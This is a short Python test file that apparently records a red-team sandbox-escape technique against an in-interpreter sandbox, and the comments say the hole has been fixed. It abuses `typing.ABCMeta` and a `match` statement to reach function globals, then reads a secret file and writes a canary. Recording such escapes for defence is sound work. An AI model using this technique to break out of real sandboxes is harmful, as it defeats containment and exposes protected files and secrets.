# mypy: ignore-errors
# Technique: the typing facade exposed the real metaclass `typing.ABCMeta`; calling it with
# three arguments builds a class from any namespace (`__match_args__` naming `__globals__`,
# a `__subclasshook__` admitting everything). Found in the red-team pass of the
# in-interpreter layer; was a real in-interpreter escape before the fix.
import typing

from suaveplan import fs


def attack(secret_path, canary_path):
    u = "_" * 2
    hook = classmethod(lambda cls, c: True)
    any_ = typing.ABCMeta(
        "Any", (), {u + "match_args" + u: (u + "globals" + u,), u + "subclasshook" + u: hook}
    )
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
